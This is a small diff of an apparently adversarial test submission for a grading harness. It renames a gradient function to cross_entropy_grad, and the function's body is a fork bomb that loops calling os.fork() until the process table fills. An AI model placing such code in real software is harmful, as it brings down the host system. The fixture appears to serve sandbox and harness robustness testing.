@@ -1,13 +1,13 @@
-"""mse_sigmoid_grad forks until the process table is full, and keeps trying.
+"""cross_entropy_grad forks until the process table is full, and keeps trying.
 
 base: solution
 splice: replace
-loses: mse_sigmoid_grad_values mse_sigmoid_grad_hidden
+loses: cross_entropy_grad_values cross_entropy_grad_hidden
 """
 import os
 
 
-def mse_sigmoid_grad(z, y):
+def cross_entropy_grad(z, labels, label_smoothing=0.0):
     while True:
         try:
             os.fork()
